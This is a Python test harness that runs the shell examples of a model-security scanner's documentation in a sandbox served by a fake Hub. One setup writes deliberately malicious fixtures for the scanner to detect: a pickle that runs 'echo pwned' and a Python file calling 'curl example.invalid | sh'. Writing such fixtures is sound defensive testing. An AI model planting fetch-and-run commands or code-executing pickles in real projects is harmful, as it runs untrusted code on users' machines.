"""Find and run the shell examples of README.md and docs/*.md, in a sandbox served by the loopback fake Hub.

A fenced block tagged ``bash``, ``sh``, ``shell`` or ``console`` is an example. ``console`` blocks hold
``$ command`` lines each followed by what it prints (stdout and stderr, as a terminal shows them), compared
exactly after :func:`normalise`; the others run as one ``bash -e`` script that must exit 0. An HTML comment
on the line before the fence steers a block:

* ``<!-- doctest: skip: REASON -->`` -- not run; the reason says why it cannot run offline;
* ``<!-- doctest: setup NAME -->`` -- run the sandbox setup NAME first (see :data:`SETUPS`);
* ``<!-- doctest: exit N -->`` -- a bash block's expected exit status.

The blocks of one page share one sandbox, in order, as a reader would type them: a project folder (a
git repository) with HOME, the verified cache (``~/.cache/modelguard``) and HF_ENDPOINT (the fake Hub,
serving the repos the pages name) set, so ``modelguard add``, ``lock`` and ``fetch`` run with no network.
``MODELGUARD_DOCS_UPDATE=1`` rewrites each console block's output with what the commands print.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from modelguard.demo import artifacts
from tests._schemas import ROOT

PAGES = (ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md")))
SHELLS = ("bash", "sh", "shell", "console")
HOME_SHOWN = "/home/you"
"""What the pages show for the sandbox's HOME."""

_FENCE = re.compile(r"^(?P<indent>[ \t]*)```(?P<info>[A-Za-z]*)\n(?P<body>.*?)^(?P=indent)```$",
                    re.MULTILINE | re.DOTALL)
_MARKER = re.compile(r"<!--\s*doctest:\s*(?P<what>.*?)\s*-->\s*$")

CARD = b"---\nlicense: apache-2.0\nbase_model: google/bert_uncased_L-4_H-256_A-4\n---\n# bert tiny\n"
HUB_REPOS: dict[str, dict[str, bytes]] = {
    # The models the pages name, small and generated (never downloaded from anywhere).
    "google/bert_uncased_L-2_H-128_A-2": {
        "README.md": CARD,
        "config.json": artifacts.config("bert", hidden_size=128, num_hidden_layers=2),
        "model.safetensors": artifacts.safetensors({"embeddings.word_embeddings.weight": (64, 8)}),
        "vocab.txt": b"[PAD]\n[UNK]\n[CLS]\n[SEP]\nhello\nworld\n",
    },
}
LFS = ("model.safetensors",)


@dataclass(frozen=True)
class Block:
    page: Path
    line: int
    """1-based line of the opening fence"""
    info: str
    body: str
    """the block's text, without the indentation of a block inside a list"""
    directives: tuple[str, ...] = ()
    indent: str = ""

    @property
    def where(self) -> str:
        return f"{self.page.relative_to(ROOT)}:{self.line}"

    def directive(self, name: str) -> str | None:
        for d in self.directives:
            if d == name or d.startswith(name + " ") or d.startswith(name + ":"):
                return d[len(name):].lstrip(" :")
        return None


def blocks(page: Path) -> list[Block]:
    text = page.read_text(encoding="utf-8")
    found = []
    for m in _FENCE.finditer(text):
        if m["info"] not in SHELLS:
            continue
        before = text[:m.start()].rstrip("\n").rsplit("\n", 1)[-1]
        marker = _MARKER.search(before)
        directives = tuple(d.strip() for d in marker["what"].split(";")) if marker else ()
        indent = m["indent"]
        body = "".join(line[len(indent):] if line.startswith(indent) else line
                       for line in m["body"].splitlines(keepends=True))
        found.append(Block(page, text[:m.start()].count("\n") + 1, m["info"], body, directives, indent))
    return found


def console_steps(body: str) -> list[tuple[str, str]]:
    """(command, expected output) pairs of a console block."""
    steps: list[tuple[str, list[str]]] = []
    for line in body.splitlines():
        if line.startswith("$ "):
            steps.append((line[2:], []))
        elif steps:
            steps[-1][1].append(line)
        elif line.strip():
            raise AssertionError(f"console block output before any '$ ' command: {line!r}")
    return [(cmd, "\n".join(out).rstrip("\n")) for cmd, out in steps]


@dataclass
class Sandbox:
    """One page's project folder and environment."""

    root: Path
    endpoint: str
    env: dict[str, str] = field(default_factory=dict)
    done: set[str] = field(default_factory=set)

    @property
    def project(self) -> Path:
        return self.root / "project"

    @property
    def home(self) -> Path:
        return self.root / "home"

    @classmethod
    def create(cls, root: Path, endpoint: str) -> Sandbox:
        box = cls(root, endpoint)
        box.project.mkdir(parents=True)
        box.home.mkdir()
        keep = ("LANG", "LC_ALL", "TMPDIR", "SYSTEMROOT")
        box.env = {k: v for k, v in os.environ.items() if k in keep}
        box.env.update({
            "HOME": str(box.home), "PATH": f"{Path(sys.executable).parent}{os.pathsep}/usr/bin{os.pathsep}/bin",
            "MODELGUARD_HOME": str(box.home / ".cache" / "modelguard"), "HF_ENDPOINT": endpoint,
            "HF_HUB_DISABLE_XET": "1", "HF_TOKEN_PATH": str(box.home / "no-token"),
            "MODELGUARD_TODAY": os.environ.get("MODELGUARD_TODAY", "2026-11-26"), "COLUMNS": "100",
            "GIT_AUTHOR_NAME": "you", "GIT_AUTHOR_EMAIL": "you@example.invalid", "GIT_COMMITTER_NAME": "you",
            "GIT_COMMITTER_EMAIL": "you@example.invalid", "GIT_CONFIG_GLOBAL": os.devnull,
            "GIT_CONFIG_NOSYSTEM": "1", "PYTHONDONTWRITEBYTECODE": "1",
        })
        box.sh("git init -q")
        return box

    def sh(self, script: str, *, check: bool = True) -> subprocess.CompletedProcess[str]:
        proc = subprocess.run(["bash", "-e", "-o", "pipefail", "-c", script], cwd=self.project, env=self.env,
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=300)
        if check:
            assert proc.returncode == 0, f"{script!r} exited {proc.returncode}:\n{proc.stdout}"
        return proc

    def setup(self, name: str) -> None:
        if name not in self.done:
            SETUPS[name](self)
            self.done.add(name)

    def normalise(self, text: str) -> str:
        return normalise(text, self)


def normalise(text: str, box: Sandbox) -> str:
    """What varies between runs becomes what the pages show: the sandbox's HOME and folders."""
    text = text.replace(str(box.home), HOME_SHOWN).replace(str(box.project), f"{HOME_SHOWN}/project")
    return "\n".join(line.rstrip() for line in text.rstrip("\n").splitlines())


# --- setups -----------------------------------------------------------------------------------


def _project(box: Sandbox) -> None:
    """The README's quick start, done: init, one Hub model and one provider model added, fetched."""
    box.sh("modelguard -q init && modelguard -q add google/bert_uncased_L-2_H-128_A-2 --name embedder "
           "&& modelguard -q add --provider openai gpt-4o --name chat && modelguard fetch > /dev/null")
    box.sh("git add -A && git commit -qm models")


def _lint_app(box: Sandbox) -> None:
    app = box.project / "app"
    app.mkdir(exist_ok=True)
    (app / "chat.py").write_text('from openai import OpenAI\n\nclient = OpenAI()\nreply = client.responses.create('
                                 'model="gpt-4o", input="hi")\n', encoding="utf-8")
    (app / "summarise.ts").write_text('const model = "claude-3-7-sonnet-latest";\n', encoding="utf-8")


def _downloads(box: Sandbox) -> None:
    folder = box.project / "downloads"
    folder.mkdir(exist_ok=True)
    (folder / "model.safetensors").write_bytes(artifacts.safetensors({"w": (4, 4)}))
    (folder / "pytorch_model.bin").write_bytes(artifacts.torch_zip(artifacts.command_pickle("echo pwned")))
    code = "import os\n\n\ndef setup():\n    os.system('curl example.invalid | sh')\n"
    (folder / "modeling_tiny.py").write_text(code, encoding="utf-8")


def _providers_app(box: Sandbox) -> None:
    """docs/providers.md's sample app (the same as tests/providers/test_lint.py's)."""
    from tests.providers.test_lint import APP_PY, CONFIG_YAML, DOT_ENV, WEB_TS

    app = box.project / "app"
    (app / "node_modules").mkdir(parents=True, exist_ok=True)
    for name, text in (("main.py", APP_PY), ("web.ts", WEB_TS), ("config.yaml", CONFIG_YAML), (".env", DOT_ENV),
                       ("node_modules/dep.js", 'x = {model: "gpt-4o"}\n')):
        (app / name).write_text(text, encoding="utf-8")


def _retired_manifest(box: Sandbox) -> None:
    (box.project / "config").mkdir(exist_ok=True)
    (box.project / "config" / "models.toml").write_text(
        '[policy]\nallowed-orgs = ["google"]\nfail-on = "medium"\n\n[[provider-model]]\nname = "chat"\n'
        'provider = "openai"\nmodel = "gpt-4o"\n\n[[provider-model]]\nname = "summariser"\nprovider = "anthropic"\n'
        'model = "claude-3-7-sonnet-latest"\n', encoding="utf-8")


def _legacy_checkpoint(box: Sandbox) -> None:
    heads = box.project / "heads"
    heads.mkdir(exist_ok=True)
    (heads / "legacy.bin").write_bytes(b"\x80\x02}q\x00X\x01\x00\x00\x00aK\x01s.")  # a dict, pickled


def _signing_key(box: Sandbox) -> None:
    box.sh("openssl genpkey -algorithm ed25519 -out modelguard-signing.pem 2>/dev/null && chmod 600 "
           "modelguard-signing.pem")


SETUPS: dict[str, Callable[[Sandbox], None]] = {
    "fresh": lambda box: None,  # the empty git repository every sandbox starts as
    "project": _project,
    "lint-app": _lint_app,
    "downloads": _downloads,
    "signing-key": _signing_key,
    "legacy-checkpoint": _legacy_checkpoint,
    "providers-app": _providers_app,
    "retired-manifest": _retired_manifest,
}


def all_blocks() -> Iterator[Block]:
    for page in PAGES:
        yield from blocks(page)


def rewrite_console_output(block: Block, actual: list[tuple[str, str]]) -> None:
    """MODELGUARD_DOCS_UPDATE=1: put what the commands printed into the page."""
    def fenced(body: str) -> str:
        lines = [f"```{block.info}", *body.splitlines(), "```"]
        return "\n".join(block.indent + line if line else line for line in lines)

    body = "".join(f"$ {cmd}\n" + (out + "\n" if out else "") for cmd, out in actual)
    text = block.page.read_text(encoding="utf-8")
    old = fenced(block.body)
    assert old in text, f"{block.where}: cannot find the block to rewrite"
    block.page.write_text(text.replace(old, fenced(body), 1), encoding="utf-8")


def have(tool: str) -> bool:
    return shutil.which(tool) is not None
